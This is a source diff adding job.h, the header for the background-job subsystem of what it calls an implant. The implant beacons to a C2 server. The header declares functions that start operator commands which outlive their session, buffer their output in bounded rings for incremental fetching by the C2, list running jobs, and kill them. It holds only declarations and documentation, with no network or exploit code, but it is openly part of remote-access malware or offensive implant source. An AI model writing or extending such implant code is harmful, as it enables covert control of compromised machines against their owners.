@@ -0,0 +1,100 @@
+/**
+ * @file job.h
+ * @author Kevin McKenzie
+ * @brief Background jobs, commands started by EXEC with the BACKGROUND flag that outlive their task and the session.
+ *
+ * A job's stdout and stderr are drained into a JOB_RING_LEN ring of its own, mmap'd so pages it never reaches cost
+ * nothing. Past that the oldest output is overwritten, memory stays bounded however chatty the job is. Rings are
+ * reserved from the memory budget in full, see mem.h. Output is
+ * addressed by cursor, the number of bytes the job had written before it, so the C2 fetches incrementally and sees
+ * exactly how much it missed when it fell behind.
+ *
+ * The implant is single threaded, jobs are serviced whenever it would otherwise block: while it sleeps between
+ * beacons and while a session waits for its next task. A job writing while the implant is busy with a task blocks on
+ * its full pipe, nothing is lost. Exits are seen through each job's pidfd and reaped without blocking.
+ */
+#ifndef JOB_H
+#define JOB_H
+
+#include <stddef.h>
+#include <stdint.h>
+#include <sys/uio.h>
+
+#include "exec.h"
+
+enum
+{
+    JOB_MAX = 128,
+    JOB_RING_LEN = 1024 * 1024,
+    JOB_CMD_LEN = 64, /**< Leading bytes of the command path kept for JOB_LIST */
+    JOB_OUTPUT_HDR_LEN = sizeof(uint64_t) + sizeof(uint8_t) + sizeof(int32_t),
+};
+
+/** Arguments of JOB_OUTPUT and JOB_KILL. */
+typedef struct
+{
+    uint32_t id;
+    uint64_t cursor;
+} job_request_t;
+
+/** JOB_OUTPUT payload, pointing into the job's ring. Valid until the next job_*() call. */
+typedef struct
+{
+    uint8_t hdr[JOB_OUTPUT_HDR_LEN];
+    struct iovec spans[2]; /**< The output, split where it wraps around the end of the ring */
+} job_output_t;
+
+/**
+ * @brief Start the command as a job.
+ * @param p_exec Command, its stdin is not passed on
+ * @param flags exec_flags of the task
+ * @param p_id Set to the new job's id, ids are not reused
+ * @param p_res SUCCESS, -JOB_ERROR when JOB_MAX jobs are held, -NO_MEMORY when the budget has no room for the ring, or
+ * -FILE_ERROR when the command could not be started
+ * @return int EMBER_SUCCESS, or -EMBER_ERROR when the ring could not be mapped
+ */
+int job_start(exec_t *p_exec, uint16_t flags, uint32_t *p_id, int8_t *p_res);
+
+/**
+ * @brief Number of jobs still running, zero means there is nothing to service.
+ */
+size_t job_running_count(void);
+
+/**
+ * @brief Service the running jobs until fd is readable, timeout_ms passes or no job is left running.
+ * @param fd Returns as soon as this is readable, -1 for none
+ * @param timeout_ms Longest wait, -1 for no limit
+ * @return int 1 when fd is readable or no job is left, so the caller can block on fd itself, 0 on timeout, or
+ * -EMBER_ERROR
+ */
+int job_wait(int fd, int timeout_ms);
+
+/**
+ * @brief JOB_LIST payload: [count u8] then per job [id u32][pid u32][running u8][exit status i32][written u64]
+ * [command length u8][command], big-endian.
+ */
+int job_list(uint8_t **pp_buf, size_t *p_len);
+
+/**
+ * @brief JOB_OUTPUT payload: [start u64][running u8][exit status i32] then the output held from the request's cursor
+ * on. start is past the cursor when older output was overwritten, the next cursor is start plus the output length.
+ * @param p_res SUCCESS, or -JOB_ERROR for an unknown job
+ */
+void job_output(const job_request_t *p_request, job_output_t *p_output, int8_t *p_res);
+
+/**
+ * @brief Called once the output of job_output() was sent, an exited job is released now that it was fetched to the
+ * end.
+ */
+void job_output_done(const job_request_t *p_request);
+
+/**
+ * @brief SIGKILL a running job and its process group, it is reaped and its output kept until fetched. An exited job
+ * is released with whatever output was not fetched.
+ * @param p_res SUCCESS, or -JOB_ERROR for an unknown job
+ */
+void job_kill(const job_request_t *p_request, int8_t *p_res);
+
+#endif /* JOB_H */
+
+/*** END OF FILE ***/